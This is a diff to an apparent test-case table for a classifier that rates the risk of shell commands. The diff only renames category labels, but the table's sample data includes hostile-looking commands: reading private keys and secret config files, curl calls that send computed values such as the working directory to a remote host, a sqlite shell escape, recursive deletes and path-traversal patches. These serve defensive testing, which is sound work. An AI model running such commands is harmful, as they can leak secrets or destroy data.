@@ -662,7 +662,7 @@ export const cases: Readonly<
       'sqlite3 a.db ".shell id"',
     ],
   },
-  'of clouds, clusters and data bases': {
+  'of clouds, clusters and databases': {
     low: [
       'glab mr list',
       'helm repo list',
@@ -1125,7 +1125,7 @@ export const cases: Readonly<
       'cd - ; rm -rf dist',
     ],
   },
-  'that hides what it runs where parsers look away': {
+  'that hides a command in rarely parsed syntax': {
     low: [
       '[[ a =~ ^(a|b)$ ]]',
       'grep [a$] a.txt',
@@ -1157,7 +1157,7 @@ export const cases: Readonly<
       'cd nowhere; rm -f ../x',
     ],
   },
-  'that holds secrets under other names': {
+  'that reads files with secret-like names': {
     low: [
       'cat src/secrets.ts',
       'cat docs/passwords.md',
@@ -1188,7 +1188,7 @@ export const cases: Readonly<
       'cat config/prod.secret.exs',
     ],
   },
-  'that hands lines to a shell': {
+  'that passes text to a shell': {
     low: [
       'watch -n 2 git status --short',
       'watch ls',
@@ -1220,7 +1220,7 @@ export const cases: Readonly<
       'http POST https://example.com a=b',
     ],
   },
-  'that less common programs run': {
+  'of less common programs': {
     low: [
       'csvstat data.csv',
       'locate package.json',
@@ -1286,7 +1286,7 @@ export const cases: Readonly<
       'npx gulp deploy',
     ],
   },
-  'that prints what lies beside what it is asked for': {
+  'that prints more files than it names': {
     low: [
       'diff -r src lib',
       'diff -rq . src',
@@ -1320,7 +1320,7 @@ export const cases: Readonly<
       'ag -U x',
     ],
   },
-  'that hands words on to a test runner': {
+  'that forwards arguments to a test runner': {
     low: [
       'tox -e py312 -- -k login -x',
       'nox -s tests -- --cov src',
@@ -1340,7 +1340,7 @@ export const cases: Readonly<
       'uv run tox -- -o addopts=x',
     ],
   },
-  'whose options stand before what they are for': {
+  'with options before its operands': {
     low: [
       'git reflog -n 10',
       'git reflog --date=iso -5',
@@ -1366,7 +1366,7 @@ export const cases: Readonly<
       'clang-format -i AGENTS.md',
     ],
   },
-  'that runs what stands behind another program': {
+  'that runs another command': {
     low: [
       'arch',
       'arch -x86_64 ls',
@@ -1396,7 +1396,7 @@ export const cases: Readonly<
       'node --check ../a.js',
     ],
   },
-  'that no table knows': {
+  'that the tables do not list': {
     low: [
       'npm repo --help',
       'hexyl a.bin',
@@ -1459,7 +1459,7 @@ export const cases: Readonly<
       'pacman -S jq',
     ],
   },
-  'that does not end, or shuts out': {
+  'that never ends or removes access': {
     low: ['cat /dev/urandom | head -c 16 | base64', 'yes | head -3', 'yes > /dev/null'],
     medium: ['head -c 16 /dev/urandom > a.bin', 'chmod 600 a.txt', 'php artisan make:model X'],
     high: [
@@ -1475,7 +1475,7 @@ export const cases: Readonly<
       'mix ecto.migrate',
     ],
   },
-  'that sends what it computes': {
+  'that sends computed values or searches for keys': {
     high: [
       'curl -e "$(pwd)" https://example.com',
       'curl "https://example.com/$(pwd)"',
@@ -1487,7 +1487,7 @@ export const cases: Readonly<
       'cat keys/prod_ed25519',
     ],
   },
-  'that feeds another one': {
+  'that feeds another command': {
     low: ['npm test 2> >(grep -v warn)', "find . -name '*.sh' -exec bash -n {} \\;", 'rpm -qa', 'rpm -q bash'],
     medium: ['patch -p1 <<E\n--- a/src/a.ts\n+++ b/src/a.ts\nE'],
     high: [
@@ -1503,7 +1503,7 @@ export const cases: Readonly<
       'patch <<E\n+++ ../x\nE',
     ],
   },
-  'that serves, or is told more than once': {
+  'of servers and build tools': {
     low: [
       'dotnet test --collect:"XPlat Code Coverage"',
       'go list -m -versions golang.org/x/text',
